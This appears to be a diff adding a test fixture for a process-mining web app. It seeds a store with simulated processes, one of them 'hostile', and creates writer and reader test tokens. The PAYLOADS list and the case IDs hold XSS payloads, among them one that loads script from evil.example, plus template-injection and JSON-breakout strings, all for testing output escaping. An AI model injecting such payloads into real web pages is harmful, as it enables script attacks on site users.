@@ -1,0 +1,100 @@
+"""A store filled for the web tests: the three simulated processes with the demo's anomalies,
+a process whose names and attributes are hostile HTML and script, and alerts evaluated on them;
+settings with a writing token, a read-only token, and (optionally) tokens needed to read."""
+
+from __future__ import annotations
+
+import json
+from datetime import datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import polars as pl
+
+from backlight import alerting, jobs
+from backlight.config import Settings, load
+from backlight.demo import drift_onset
+from ingest.simulate import Anomalies, Bottleneck, ReworkLoop, StuckCases, simulate
+from ingest.store import SQLiteStore
+from schemas.event import CaseEvent, to_time_us
+
+WRITER_TOKEN = "writer-token-0123456789"
+READER_TOKEN = "reader-token-0123456789"
+HOSTILE_PROCESS = "hostile"
+PAYLOADS = (
+    "<script>alert('activity')</script>",
+    '"><img src=x onerror=alert(1)>',
+    "<svg onload=alert(2)>",
+    "javascript:alert(3)",
+    "</title><script src=https://evil.example/x.js></script>",
+    "{{7*7}} ${7*7} <b>bold</b>",
+)
+
+
+def hostile_events(cases: int = 12) -> list[CaseEvent]:
+    """Cases of a process whose activities, resources, teams, case ids and attribute values
+    are HTML and script payloads (and one that tries to break out of embedded JSON)."""
+    t0 = to_time_us(datetime.fromisoformat("2026-03-02T09:00:00+01:00"))
+    out = []
+    for c in range(cases):
+        case = f"case-{c}-<img src=x onerror=alert('case')>"
+        for i, activity in enumerate(PAYLOADS[: 3 + c % 4]):
+            attrs = json.dumps({"note": PAYLOADS[(c + i) % len(PAYLOADS)],
+                                "json": "</script><script>alert('json')</script>"})
+            out.append(CaseEvent(f"h-{c}-{i}", HOSTILE_PROCESS, case, activity,
+                                 t0 + (c * 3600 + i * 7200) * 1_000_000, "complete",
+                                 PAYLOADS[i % len(PAYLOADS)], f"team<{i % 2}>", attrs))
+    return out
+
+
+def fill_store(path: Path, cases: int = 400) -> dict[str, datetime]:
+    """The demo's three processes (with its anomalies) and the hostile one, stored at
+    ``path``; returns each process's "now" (an hour after its last case arrived)."""
+    onset = drift_onset(cases)
+    plans: dict[str, Anomalies] = {
+        "onboarding": Anomalies(
+            bottleneck=Bottleneck("Risk review", onset, 5.0, segment=("region", "east")),
+            rework=ReworkLoop(("Request missing documents", "Documents received"), 0.3,
+                              since=onset)),
+        "payments": Anomalies(),
+        "claims": Anomalies(stuck=StuckCases("Assessment", 0.05)),
+    }
+    store = SQLiteStore(path)
+    nows: dict[str, datetime] = {}
+    try:
+        for process, anomalies in plans.items():
+            sim = simulate(process, cases, seed=7, start=jobs.SIMULATION_START,
+                           anomalies=anomalies)
+            store.write(sim.events)
+            frame = store.events(process)
+            first = frame.group_by("case_id").agg(pl.col("timestamp").min())
+            nows[process] = first["timestamp"].max() + timedelta(hours=1)  # type: ignore[operator]
+        store.write(hostile_events())
+        nows[HOSTILE_PROCESS] = store.events(HOSTILE_PROCESS)["timestamp"].max()  # type: ignore[assignment]
+    finally:
+        store.close()
+    return nows
+
+
+def web_settings(store_path: Path, *, read: str = "open", **web: Any) -> Settings:
+    """The embedded defaults over the store at ``store_path``, with a writer ("alice") and a
+    reader ("rita") token."""
+    base = load(environ={})
+    tokens = ({"name": "alice", "token": WRITER_TOKEN, "write": True},
+              {"name": "rita", "token": READER_TOKEN, "write": False})
+    data = base.model_dump(mode="python")
+    data["store"]["url"] = f"sqlite:///{store_path}"
+    data["web"] = {**data["web"], "read": read, "tokens": tokens, **web}
+    for t in data["web"]["tokens"]:
+        if hasattr(t.get("token"), "get_secret_value"):
+            t["token"] = t["token"].get_secret_value()
+    return Settings.model_validate(data)
+
+
+def evaluate_alerts(settings: Settings, nows: dict[str, datetime]) -> int:
+    """Evaluate the rules on each process as of its own "now" (no chat: no channels)."""
+    fired = 0
+    for process, now in sorted(nows.items()):
+        report = alerting.evaluate(settings, now, processes=[process])
+        fired += len(report.alerts)
+    return fired
